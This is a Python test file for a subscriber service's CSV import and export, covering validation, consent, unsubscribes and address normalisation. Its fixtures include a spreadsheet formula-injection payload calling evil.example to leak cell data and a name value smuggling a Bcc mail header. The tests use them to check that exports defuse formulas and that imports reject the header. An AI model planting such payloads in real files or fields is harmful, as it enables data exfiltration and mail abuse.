"""CSV import and export of subscribers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import func, select

from distributor.audience.subscribers import (
    add_subscriber,
    export_csv,
    import_csv,
    mailbox_key,
    unsubscribe,
)
from distributor.core.config import Settings
from distributor.core.db import session_scope, upgrade
from distributor.core.errors import ImportRejected, SubscriberInputError
from distributor.core.models import Subscriber, SubscriberStatus
from tests.helpers import add_topics

GOOD = (
    "email,name,language,topics\n"
    "ann@example.com,Ann,en,climate\n"
    "bob@example.org,Bob,fr,climate;science\n"
)
BAD = (
    GOOD
    + "not-an-address,X,en,climate\n"
    + "carl@example.com,Carl,de,climate\n"
    + "dora@example.com,Dora,en,nuclear\n"
    + 'eve@example.com,"Eve\r\nBcc: victim@example.com",en,climate\n'
    + "ann@example.com,Ann again,en,climate\n"
)


def count(settings: Settings) -> int:
    with session_scope(settings) as session:
        return int(session.scalar(select(func.count()).select_from(Subscriber)) or 0)


def run_import(settings: Settings, text: str, **kwargs: object) -> object:
    with session_scope(settings) as session:
        return import_csv(session, settings, io.StringIO(text, newline=""), "subs.csv", **kwargs)  # type: ignore[arg-type]


def test_import_adds_pending_subscribers_with_topics(settings: Settings) -> None:
    add_topics(settings, "climate", "science")
    run_import(settings, GOOD)
    with session_scope(settings) as session:
        bob = session.scalar(select(Subscriber).where(Subscriber.email == "bob@example.org"))
        assert bob is not None
        assert bob.status == SubscriberStatus.PENDING
        assert bob.language == "fr"
        assert sorted(t.slug for t in bob.topics) == ["climate", "science"]


def test_bad_rows_reject_the_whole_file_and_list_every_line(settings: Settings) -> None:
    add_topics(settings, "climate", "science")
    with pytest.raises(ImportRejected) as info:
        run_import(settings, BAD)
    lines = {r.line: r.reason for r in info.value.rows}
    assert sorted(lines) == [4, 5, 6, 7, 9]
    assert "not-an-address" in lines[4]
    assert "language" in lines[5]
    assert "nuclear" in lines[6]
    assert "line breaks" in lines[7]
    assert "already on line 2" in lines[9]
    assert count(settings) == 0


def test_skip_invalid_imports_good_rows(settings: Settings) -> None:
    add_topics(settings, "climate", "science")
    report = run_import(settings, BAD, skip_invalid=True)
    assert count(settings) == 2
    assert len(report.rejected) == 5  # type: ignore[attr-defined]


def test_confirmed_import_needs_consent_source(settings: Settings) -> None:
    add_topics(settings, "climate", "science")
    with pytest.raises(SubscriberInputError, match="consent"):
        run_import(settings, GOOD, confirmed=True)
    run_import(settings, GOOD, confirmed=True, consent_source="trade fair 2026")
    with session_scope(settings) as session:
        statuses = set(session.scalars(select(Subscriber.status)))
    assert statuses == {SubscriberStatus.CONFIRMED}


def test_import_never_resubscribes_someone_who_left(settings: Settings) -> None:
    add_topics(settings, "climate", "science")
    run_import(settings, GOOD, confirmed=True, consent_source="x")
    with session_scope(settings) as session:
        ann = session.scalar(select(Subscriber).where(Subscriber.email == "ann@example.com"))
        assert ann is not None
        unsubscribe(session, ann.id)
    report = run_import(settings, GOOD, confirmed=True, consent_source="x")
    assert report.unchanged == 1  # type: ignore[attr-defined]
    with session_scope(settings) as session:
        ann = session.scalar(select(Subscriber).where(Subscriber.email == "ann@example.com"))
        assert ann is not None and ann.status == SubscriberStatus.UNSUBSCRIBED


def test_export_round_trips(settings: Settings, tmp_path: Path) -> None:
    add_topics(settings, "climate", "science")
    run_import(settings, GOOD, confirmed=True, consent_source="x")
    buf = io.StringIO()
    with session_scope(settings) as session:
        assert export_csv(session, buf) == 2
    text = buf.getvalue()
    assert text.splitlines()[0].startswith("email,name,language,topics,status")
    assert "bob@example.org,Bob,fr,climate;science,confirmed" in text


def test_an_export_defuses_formulas_and_reads_back_the_same(
    sqlite_settings: Settings, tmp_path: Path
) -> None:
    add_topics(sqlite_settings, "climate")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with session_scope(sqlite_settings) as session:
        add_subscriber(
            session, sqlite_settings, email="-dash@example.com", name=hostile, language="en",
            topics=["climate"], confirmed=True, consent_source="form",
        )  # fmt: skip
    buf = io.StringIO()
    with session_scope(sqlite_settings) as session:
        export_csv(session, buf)
    (row,) = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert row["email"] == "'-dash@example.com" and row["name"] == "'" + hostile
    path = tmp_path / "export.csv"
    path.write_text(buf.getvalue())
    other = sqlite_settings.model_copy(update={"data_dir": tmp_path / "other"})
    upgrade(other)
    add_topics(other, "climate")
    with session_scope(other) as session, path.open() as stream:
        import_csv(session, other, stream, "export.csv", confirmed=True, consent_source="export")
    with session_scope(other) as session:
        sub = session.scalars(select(Subscriber)).one()
        assert (sub.email, sub.name) == ("-dash@example.com", hostile)


@pytest.mark.parametrize(
    ("address", "mailbox"),
    [
        ("bomb@example.org", "bomb@example.org"),
        ("B.omb+1@Example.ORG", "bomb@example.org"),
        ("b.o.m.b+x.y+z@example.org", "bomb@example.org"),
        ("  bomb+news@googlemail.com ", "bomb@gmail.com"),
        ("jean-pierre.durand@example.fr", "jean-pierredurand@example.fr"),
    ],
)
def test_the_mailbox_key_folds_case_tags_and_dots(address: str, mailbox: str) -> None:
    assert mailbox_key(address) == mailbox


def test_the_mailbox_key_refuses_what_is_not_an_address() -> None:
    with pytest.raises(SubscriberInputError):
        mailbox_key("not an address")
